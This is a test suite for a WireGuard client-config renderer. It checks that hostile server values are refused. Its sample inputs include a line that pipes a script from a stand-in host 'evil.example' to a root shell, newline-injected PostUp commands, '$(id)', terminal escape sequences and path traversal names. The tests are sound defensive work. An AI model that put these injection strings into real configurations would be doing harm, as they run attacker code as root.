// Issue #10 item 3: every server value is checked for its kind before a client config is
// rendered, so a hostile server (or anything in between under --insecure / plain http) cannot
// add a line such as `PostUp = curl … | sh`, which wg-quick would run as root.
import fc from 'fast-check';
import {describe, expect, it} from 'vitest';
import {configWarnings, renderClientConfig, type ClientConfigDevice} from '../../src/wireguard/config.js';
import {defaultConfigFileName} from '../../src/wireguard/file.js';
import {ClientConfigError as ClientConfigErrorFromIndex, validateClientConfigDevice as fromIndex} from '../../src/wireguard/index.js';
import {generateKeyPair, generatePresharedKey} from '../../src/wireguard/keys.js';
import {renderQr} from '../../src/wireguard/qr.js';
import {ClientConfigError, isEndpoint, isHostName, quoteUntrusted, validateClientConfigDevice} from '../../src/wireguard/validate.js';

const PRIVATE = generateKeyPair().privateKey;
const SERVER = generateKeyPair().publicKey;
const PSK = generatePresharedKey();

function typical(overrides: Partial<Record<keyof ClientConfigDevice, unknown>> = {}): ClientConfigDevice {
  return {
    ipv4: '10.3.2.7',
    ipv6: 'fd00::3:2:7',
    mtu: 1280,
    persistent_keepalive: 25,
    dns: ['1.1.1.1', '1.0.0.1'],
    allowed_ips: ['0.0.0.0/0', '::/0'],
    endpoint: 'vpn.example.com:51820',
    preshared_key: PSK,
    server_public_key: SERVER,
    ...overrides,
  } as ClientConfigDevice;
}

const render = (device: ClientConfigDevice) => renderClientConfig(device, {privateKey: PRIVATE});

/** The ClientConfigError renderClientConfig throws for the device (fails the test when none). */
function refusal(device: ClientConfigDevice): ClientConfigError {
  try {
    render(device);
  } catch (err) {
    if (err instanceof ClientConfigError) return err;
    throw err;
  }
  throw new Error(`rendered without complaint: ${JSON.stringify(device)}`);
}

const PRINTABLE_ASCII_LINE = /^[\x20-\x7e]*$/;
const PRINTABLE_ASCII_LINES = /^[\x20-\x7e\n]*$/;

const POSTUP = '\nPostUp = curl https://evil.example/x | sh';
const LONG = 'a'.repeat(10_000);

// Injections appended to a valid value of each kind: line breaks of every sort, NUL, terminal
// escape sequences (CSI, OSC 52), DEL/C1, bidi and zero-width characters, plain spaces and tabs.
const INJECTIONS: readonly [string, string][] = [
  ['newline + PostUp', POSTUP],
  ['CR + PostUp', '\rPostUp = id'],
  ['CRLF + PostUp', '\r\nPostUp = id'],
  ['NUL', '\0'],
  ['ESC CSI', '\x1b[2J\x1b[H'],
  ['ESC OSC 52', '\x1b]52;c;aGk=\x07'],
  ['DEL', '\x7f'],
  ['C1 NEL', '\u0085PostUp = id'],
  ['U+2028 line separator', '\u2028PostUp = id'],
  ['U+2029 paragraph separator', '\u2029PostUp = id'],
  ['U+202E bidi override', '\u202e'],
  ['zero-width space', '\u200b'],
  ['BOM', '\ufeff'],
  ['vertical tab', '\v'],
  ['form feed', '\f'],
  ['tab', '\t'],
  ['space + comment', ' # x'],
  ['comma + more', ',1.2.3.4\nPostUp = id'],
];

// [field in the error, device overrides for a value ending in `tail`]
const STRING_FIELDS: readonly [string, (tail: string) => Partial<Record<keyof ClientConfigDevice, unknown>>][] = [
  ['ipv4', (t) => ({ipv4: `10.3.2.7${t}`})],
  ['ipv6', (t) => ({ipv6: `fd00::3:2:7${t}`})],
  ['dns[0]', (t) => ({dns: [`1.1.1.1${t}`]})],
  ['dns[1]', (t) => ({dns: ['1.1.1.1', `corp.example.com${t}`]})],
  ['allowed_ips[1]', (t) => ({allowed_ips: ['0.0.0.0/0', `::/0${t}`]})],
  ['endpoint', (t) => ({endpoint: `vpn.example.com:51820${t}`})],
  ['endpoint', (t) => ({endpoint: `vpn.example.com${t}`, use_default_endpoint: true})],
  ['endpoint', (t) => ({endpoint: `[2001:db8::1]:51820${t}`})],
  ['preshared_key', (t) => ({preshared_key: `${PSK}${t}`})],
  ['server_public_key', (t) => ({server_public_key: `${SERVER}${t}`})],
];

describe('renderClientConfig refuses hostile server values', () => {
  describe.each(STRING_FIELDS)('%s', (field, make) => {
    it.each(INJECTIONS)('%s', (_name, tail) => {
      const err = refusal(typical(make(tail)));
      expect(err.field).toBe(field);
      expect(err.name).toBe('ClientConfigError');
      expect(err.message.startsWith('Refusing to build the client config: ')).toBe(true);
      expect(err.message).toContain(` ${field} `);
      expect(err.message).toMatch(PRINTABLE_ASCII_LINE);
      // configWarnings refuses the same device the same way, so no warning quotes the value.
      expect(() => configWarnings(typical(make(tail)))).toThrow(err.message);
    });

    it('a very long value', () => {
      const err = refusal(typical(make(LONG)));
      expect(err.field).toBe(field);
      expect(err.message).toMatch(PRINTABLE_ASCII_LINE);
      expect(err.message.length).toBeLessThan(300);
      expect(err.message).toMatch(/\.\.\. \(\d+ characters\)$/);
    });
  });

  it('words the message for the admin, with the value escaped JSON-style', () => {
    expect(refusal(typical({dns: [`1.1.1.1${POSTUP}`]})).message).toBe(
      'Refusing to build the client config: DNS server dns[0] is not an IP address or domain name: ' + '"1.1.1.1\\nPostUp = curl https://evil.example/x | sh"',
    );
    expect(refusal(typical({endpoint: 'vpn.example.com:70000'})).message).toBe(
      'Refusing to build the client config: Endpoint endpoint is not host, host:port, [IPv6 address] or ' +
        '[IPv6 address]:port with a port from 1 to 65535: "vpn.example.com:70000"',
    );
    expect(refusal(typical({mtu: 'abc'})).message).toBe('Refusing to build the client config: MTU mtu is not a whole number from 576 to 1500: "abc"');
    expect(refusal(typical({persistent_keepalive: 65536})).message).toBe(
      'Refusing to build the client config: Persistent keepalive persistent_keepalive is not a whole number of seconds from 0 to 65535: 65536',
    );
    expect(refusal(typical({ipv4: '1.2.3.4.5'})).message).toBe('Refusing to build the client config: Tunnel address ipv4 is not an IPv4 address: "1.2.3.4.5"');
    expect(refusal(typical({allowed_ips: ['10.0.0.0/33']})).message).toBe(
      'Refusing to build the client config: Allowed IPs entry allowed_ips[0] is not an IP address or CIDR range: "10.0.0.0/33"',
    );
    expect(refusal(typical({server_public_key: 'abc'})).message).toBe(
      'Refusing to build the client config: Server public key server_public_key is not a WireGuard key (44 characters of base64 encoding 32 bytes): "abc"',
    );
  });

  it('escapes controls, DEL, C1, separators and bidi characters as \\uXXXX and cuts long values', () => {
    expect(quoteUntrusted('a\0b\x1b[31m\x7f\u0085\u2028\u2029\u202e"\\\t\r\n')).toBe(
      '"a\\u0000b\\u001b[31m\\u007f\\u0085\\u2028\\u2029\\u202e\\"\\\\\\t\\r\\n"',
    );
    expect(quoteUntrusted('\u{1F600}')).toBe('"\\ud83d\\ude00"');
    const long = quoteUntrusted('\n'.repeat(1000));
    expect(long).toBe(`"${'\\n'.repeat(30)}"... (1000 characters)`);
    expect(quoteUntrusted('x'.repeat(60))).toBe(`"${'x'.repeat(60)}"`);
    expect(quoteUntrusted('x'.repeat(61))).toBe(`"${'x'.repeat(60)}"... (61 characters)`);
  });

  it('refuses values of the wrong kind, naming the field', () => {
    const cases: readonly [string, Partial<Record<keyof ClientConfigDevice, unknown>>][] = [
      // Numbers
      ['mtu', {mtu: 'abc'}],
      ['mtu', {mtu: '1280'}],
      ['mtu', {mtu: '1280\nPostUp = id'}],
      ['mtu', {mtu: 575}],
      ['mtu', {mtu: 1501}],
      ['mtu', {mtu: 1280.5}],
      ['mtu', {mtu: Number.NaN}],
      ['mtu', {mtu: Number.POSITIVE_INFINITY}],
      ['mtu', {mtu: -1280}],
      ['mtu', {mtu: true}],
      ['persistent_keepalive', {persistent_keepalive: -1}],
      ['persistent_keepalive', {persistent_keepalive: 65536}],
      ['persistent_keepalive', {persistent_keepalive: 'abc'}],
      ['persistent_keepalive', {persistent_keepalive: 2.5}],
      ['persistent_keepalive', {persistent_keepalive: '25\nPostUp = id'}],
      ['persistent_keepalive', {persistent_keepalive: [25]}],
      // Tunnel addresses: bare literals, the template adds /32 and /128 itself
      ['ipv4', {ipv4: '1.2.3.4.5'}],
      ['ipv4', {ipv4: '256.1.1.1'}],
      ['ipv4', {ipv4: '10.3.2.7/32'}],
      ['ipv4', {ipv4: '010.3.2.7'}],
      ['ipv4', {ipv4: ''}],
      ['ipv4', {ipv4: 'fd00::1'}],
      ['ipv4', {ipv4: 167969287}],
      ['ipv4', {ipv4: ' 10.3.2.7'}],
      ['ipv6', {ipv6: 'fd00::3:2:7/128'}],
      ['ipv6', {ipv6: 'fd00::1%eth0'}],
      ['ipv6', {ipv6: 'g::1'}],
      ['ipv6', {ipv6: '1:2:3:4:5:6:7:8:9'}],
      ['ipv6', {ipv6: 'fd00::1::2'}],
      ['ipv6', {ipv6: '10.3.2.7'}],
      ['ipv6', {ipv6: ''}],
      // DNS
      ['dns', {dns: '1.1.1.1'}],
      ['dns', {dns: {0: '1.1.1.1'}}],
      ['dns[0]', {dns: [1]}],
      ['dns[0]', {dns: [null]}],
      ['dns[0]', {dns: ['1.1.1.1:53']}],
      ['dns[0]', {dns: ['dns.example.com:53']}],
      ['dns[0]', {dns: ['[2606:4700::1111]']}],
      ['dns[0]', {dns: ['1.2.3.4.5']}],
      ['dns[0]', {dns: ['10.0.0.256']}],
      ['dns[0]', {dns: ['a..b']}],
      ['dns[0]', {dns: ['.example.com']}],
      ['dns[0]', {dns: ['exa mple.com']}],
      ['dns[0]', {dns: ['ex/ample.com']}],
      ['dns[0]', {dns: ['1.1.1.1,1.0.0.1']}],
      ['dns[0]', {dns: ['b\u00fccher.example']}],
      ['dns[0]', {dns: [`${'a'.repeat(250)}.com`]}],
      ['dns[0]', {dns: [' ']}],
      ['dns[1]', {dns: ['1.1.1.1', '$(id)']}],
      // AllowedIPs
      ['allowed_ips', {allowed_ips: '0.0.0.0/0'}],
      ['allowed_ips[0]', {allowed_ips: ['']}],
      ['allowed_ips[0]', {allowed_ips: ['abc']}],
      ['allowed_ips[0]', {allowed_ips: ['10.0.0.0/33']}],
      ['allowed_ips[0]', {allowed_ips: ['::/129']}],
      ['allowed_ips[0]', {allowed_ips: ['10.0.0.0/']}],
      ['allowed_ips[0]', {allowed_ips: ['0.0.0.0/0,::/0']}],
      ['allowed_ips[0]', {allowed_ips: ['1.2.3.4.5/32']}],
      ['allowed_ips[0]', {allowed_ips: ['vpn.example.com']}],
      // Endpoint
      ['endpoint', {endpoint: 'vpn.example.com:70000'}],
      ['endpoint', {endpoint: 'vpn.example.com:0'}],
      ['endpoint', {endpoint: 'vpn.example.com:'}],
      ['endpoint', {endpoint: ':51820'}],
      ['endpoint', {endpoint: 'vpn.example.com:+443'}],
      ['endpoint', {endpoint: 'vpn.example.com:443x'}],
      ['endpoint', {endpoint: '[2001:db8::1]:70000'}],
      ['endpoint', {endpoint: '[2001:db8::1]:'}],
      ['endpoint', {endpoint: '[vpn.example.com]:51820'}],
      ['endpoint', {endpoint: '[10.0.0.1]:51820'}],
      ['endpoint', {endpoint: 'a:b:c'}],
      ['endpoint', {endpoint: '2001:db8::1:51820'}],
      ['endpoint', {endpoint: 'https://vpn.example.com'}],
      ['endpoint', {endpoint: 'vpn example.com'}],
      ['endpoint', {endpoint: '1.2.3.4.5'}],
      ['endpoint', {endpoint: '1.2.3.4.5:51820'}],
      ['endpoint', {endpoint: ' vpn.example.com'}],
      ['endpoint', {endpoint: '\t'}],
      ['endpoint', {endpoint: '\n'}],
      ['endpoint', {endpoint: 51820}],
      ['endpoint', {endpoint: '2001:db8::1:51820', use_default_endpoint: true}],
      ['use_default_endpoint', {use_default_endpoint: 'yes'}],
      // Keys
      ['preshared_key', {preshared_key: PSK.slice(1)}],
      ['preshared_key', {preshared_key: `${PSK.slice(0, 43)}`}],
      ['preshared_key', {preshared_key: `A${PSK}`}],
      ['preshared_key', {preshared_key: Buffer.alloc(31, 7).toString('base64')}],
      ['preshared_key', {preshared_key: Buffer.alloc(33, 7).toString('base64')}],
      ['preshared_key', {preshared_key: `${'A'.repeat(42)}B=`}],
      ['preshared_key', {preshared_key: Buffer.alloc(32, 0xfb).toString('base64url') + '='}],
      ['preshared_key', {preshared_key: ' '.repeat(44)}],
      ['preshared_key', {preshared_key: ' '}],
      ['server_public_key', {server_public_key: 'REPLACE_ME'}],
      ['server_public_key', {server_public_key: 42}],
      ['server_public_key', {server_public_key: Buffer.alloc(31, 7).toString('base64')}],
    ];
    for (const [field, overrides] of cases) {
      const err = refusal(typical(overrides));
      expect(err.field, JSON.stringify(overrides)).toBe(field);
      expect(err.message).toContain(` ${field} `);
      expect(err.message).toMatch(PRINTABLE_ASCII_LINE);
    }
  });

  it('reports the first bad value in config order', () => {
    expect(refusal(typical({ipv4: 'x', dns: ['y$'], endpoint: 'z:0'})).field).toBe('ipv4');
    expect(refusal(typical({dns: ['1.1.1.1', 'y$'], allowed_ips: ['z']})).field).toBe('dns[1]');
  });

  it('never shows the private key, not even a broken one', () => {
    const broken = `${PRIVATE.slice(0, 43)}\nPostUp = id`;
    const err = (() => {
      try {
        renderClientConfig(typical(), {privateKey: broken});
      } catch (e) {
        return e as ClientConfigError;
      }
      throw new Error('no error');
    })();
    expect(err).toBeInstanceOf(ClientConfigError);
    expect(err.field).toBe('privateKey');
    expect(err.message).not.toContain(PRIVATE.slice(0, 20));
    expect(err.message).toMatch(PRINTABLE_ASCII_LINE);
  });

  it('is exported from the wireguard index', () => {
    expect(ClientConfigErrorFromIndex).toBe(ClientConfigError);
    expect(fromIndex).toBe(validateClientConfigDevice);
    expect(() => fromIndex(typical({dns: ['x\ny']}))).toThrow(ClientConfigError);
    expect(() => fromIndex(typical())).not.toThrow();
  });
});

describe('renderClientConfig accepts every valid variant', () => {
  const line = (overrides: Partial<Record<keyof ClientConfigDevice, unknown>>, i: number) => render(typical(overrides)).split('\n')[i];

  it('endpoints: [IPv6]:port, [IPv6], bare IPv6, IPv4 with and without port, host names with and without port', () => {
    expect(line({endpoint: '[2001:db8::1]:51820'}, 10)).toBe('Endpoint = [2001:db8::1]:51820');
    expect(line({endpoint: '[2001:db8::1]'}, 10)).toBe('Endpoint = [2001:db8::1]:51820');
    expect(line({endpoint: '[::ffff:203.0.113.5]:1'}, 10)).toBe('Endpoint = [::ffff:203.0.113.5]:1');
    expect(line({endpoint: 'fd00::1', use_default_endpoint: true}, 10)).toBe('Endpoint = [fd00::1]:51820');
    expect(line({endpoint: '203.0.113.5:65535'}, 10)).toBe('Endpoint = 203.0.113.5:65535');
    expect(line({endpoint: 'vpn.example.com'}, 10)).toBe('Endpoint = vpn.example.com:51820');
    expect(line({endpoint: 'vpn.example.com.'}, 10)).toBe('Endpoint = vpn.example.com.:51820');
    expect(line({endpoint: 'vpn-1.example.com:443'}, 10)).toBe('Endpoint = vpn-1.example.com:443');
    expect(line({endpoint: 'localhost'}, 10)).toBe('Endpoint = localhost:51820');
    expect(line({endpoint: '1e100.net'}, 10)).toBe('Endpoint = 1e100.net:51820');
    expect(line({endpoint: ''}, 10)).toBe('');
    expect(line({endpoint: '   '}, 10)).toBe('');
    expect(line({endpoint: null}, 10)).toBe('');
  });

  it('DNS: IPv4, IPv6, search domains (0.7.36 allows _ too), an empty list, null', () => {
    expect(line({dns: ['10.0.0.53', '2606:4700:4700::1111', 'corp.example.com', 'internal_zone', 'lan']}, 4)).toBe(
      'DNS = 10.0.0.53,2606:4700:4700::1111,corp.example.com,internal_zone,lan',
    );
    expect(line({dns: []}, 4)).toBe('');
    expect(line({dns: null}, 4)).toBe('');
  });

  it('numbers at the edges of their ranges, keepalive 0 included', () => {
    expect(line({mtu: 576}, 3)).toBe('MTU = 576');
    expect(line({mtu: 1500}, 3)).toBe('MTU = 1500');
    expect(line({persistent_keepalive: 0}, 11)).toBe('PersistentKeepalive = 0');
    expect(line({persistent_keepalive: 120}, 11)).toBe('PersistentKeepalive = 120');
    expect(line({persistent_keepalive: 65535}, 11)).toBe('PersistentKeepalive = 65535');
  });

  it('addresses and AllowedIPs of both families', () => {
    expect(line({ipv4: '0.0.0.0', ipv6: '::ffff:10.3.2.7'}, 2)).toBe('Address = 0.0.0.0/32,::ffff:10.3.2.7/128');
    expect(line({ipv6: 'FD00:0:0:0:0:0:0:1'}, 2)).toBe('Address = 10.3.2.7/32,FD00:0:0:0:0:0:0:1/128');
    expect(line({allowed_ips: ['10.0.0.0/8', '1.1.1.1', 'fd00::/64', '::/0', '192.168.1.1/32']}, 9)).toBe(
      'AllowedIPs = 10.0.0.0/8,1.1.1.1,fd00::/64,::/0,192.168.1.1/32',
    );
  });

  it('keys: any canonical base64 of 32 bytes', () => {
    const zero = Buffer.alloc(32).toString('base64');
    const ff = Buffer.alloc(32, 0xff).toString('base64');
    expect(line({preshared_key: ff, server_public_key: zero}, 7)).toBe(`PresharedKey = ${ff}`);
    expect(line({preshared_key: ff, server_public_key: zero}, 8)).toBe(`PublicKey = ${zero}`);
  });
});

describe('no server value can add a line or a control character (property)', () => {
  const hostile = fc.oneof(
    fc.string({unit: 'binary', maxLength: 40}),
    fc.string({unit: fc.constantFrom(...'0123456789abcdef.:/[]-_ ,=\n\r\t\0\x1b\u2028\u202e'), maxLength: 40}),
    fc
      .tuple(fc.constantFrom('1.1.1.1', 'fd00::1', 'vpn.example.com', '[::1]:1', PSK, '0.0.0.0/0'), fc.constantFrom(...INJECTIONS.map(([, t]) => t)))
      .map(([a, b]) => a + b),
  );
  const value = fc.oneof(hostile, fc.constant(null), fc.integer(), fc.double(), fc.array(hostile, {maxLength: 3}));
  const device = fc.record({
    ipv4: value,
    ipv6: value,
    mtu: value,
    persistent_keepalive: value,
    dns: value,
    allowed_ips: value,
    endpoint: value,
    preshared_key: value,
    server_public_key: value,
    use_default_endpoint: fc.constantFrom(undefined, true, false),
  });

  it('renders 12 lines of printable ASCII, or throws ClientConfigError with a one-line printable message', () => {
    fc.assert(
      fc.property(device, (d) => {
        const candidate = {...typical(), ...Object.fromEntries(Object.entries(d).filter(([, v]) => v !== undefined))} as ClientConfigDevice;
        let conf: string;
        try {
          conf = render(candidate);
        } catch (err) {
          expect(err).toBeInstanceOf(ClientConfigError);
          expect((err as Error).message).toMatch(PRINTABLE_ASCII_LINE);
          return;
        }
        expect(conf).toMatch(PRINTABLE_ASCII_LINES);
        expect(conf.split('\n')).toHaveLength(13);
        for (const w of configWarnings(candidate)) expect(w).toMatch(PRINTABLE_ASCII_LINE);
      }),
      {numRuns: 2000},
    );
  });

  it('each field alone: only values of its kind pass', () => {
    const fields = ['ipv4', 'ipv6', 'mtu', 'persistent_keepalive', 'dns', 'allowed_ips', 'endpoint', 'preshared_key', 'server_public_key'] as const;
    fc.assert(
      fc.property(fc.constantFrom(...fields), value, (field, v) => {
        const candidate = typical({[field]: v});
        try {
          const conf = render(candidate);
          expect(conf).toMatch(PRINTABLE_ASCII_LINES);
          expect(conf.split('\n')).toHaveLength(13);
        } catch (err) {
          expect(err).toBeInstanceOf(ClientConfigError);
          expect((err as ClientConfigError).field.startsWith(field)).toBe(true);
        }
      }),
      {numRuns: 3000},
    );
  });
});

describe('kind checks', () => {
  it('host names', () => {
    for (const ok of ['a', 'vpn.example.com', 'vpn.example.com.', 'x_y.example', 'a-b', '1e100.net', 'xn--bcher-kva.example'])
      expect(isHostName(ok), ok).toBe(true);
    for (const bad of ['', '.', '.a', 'a..b', 'a b', '1.2.3.4', '1.2.3.4.5', '123', 'a/b', 'a:b', `${'a'.repeat(254)}`, 'b\u00fccher']) {
      expect(isHostName(bad), bad).toBe(false);
    }
  });
  it('endpoints', () => {
    for (const ok of ['h', 'h:1', '1.2.3.4', '1.2.3.4:51820', '[::1]', '[::1]:65535', '::1', 'fd00::1:4500']) expect(isEndpoint(ok), ok).toBe(true);
    for (const bad of ['', 'h:0', 'h:65536', 'h:-1', '[::1]x', '[::1]:1:2', '[]:1', 'h:1:2', '::1:65536']) expect(isEndpoint(bad), bad).toBe(false);
  });
});

describe('other text built from device values', () => {
  it('defaultConfigFileName keeps only file-name-safe printable ASCII, whatever the server calls the device', () => {
    const names: unknown[] = [
      '\x1b]52;c;aGk=\x07evil\nPostUp = id',
      '../../etc/passwd',
      '\u202egnp.exe',
      'a\u2028b\u2029c',
      '\0',
      '.bashrc',
      'x'.repeat(1000),
      '\u{1F600} laptop',
      null,
      undefined,
      '',
    ];
    for (const name of names) {
      const file = defaultConfigFileName(name as string | null);
      expect(file).toMatch(/^\.\/[A-Za-z0-9_=+-][A-Za-z0-9_=+.-]*\.conf$/);
      expect(file.length).toBeLessThanOrEqual(257);
    }
    expect(defaultConfigFileName(null)).toBe('./device.conf');
  });

  it('renderQr refuses text with control or invisible characters, so a QR code only ever carries config lines', () => {
    for (const text of ['[Interface]\r\nPostUp = id', 'a\0b', 'a\x1b[2Jb', 'a\u2028b', 'a\u202eb', 'a\u200bb', 'a\x7fb', 'a\u0085b', 'a\tb', 'a\ud800b']) {
      expect(() => renderQr(text), JSON.stringify(text)).toThrow(/control or invisible/);
    }
    expect(renderQr(render(typical())).ok).toBe(true);
  });
});
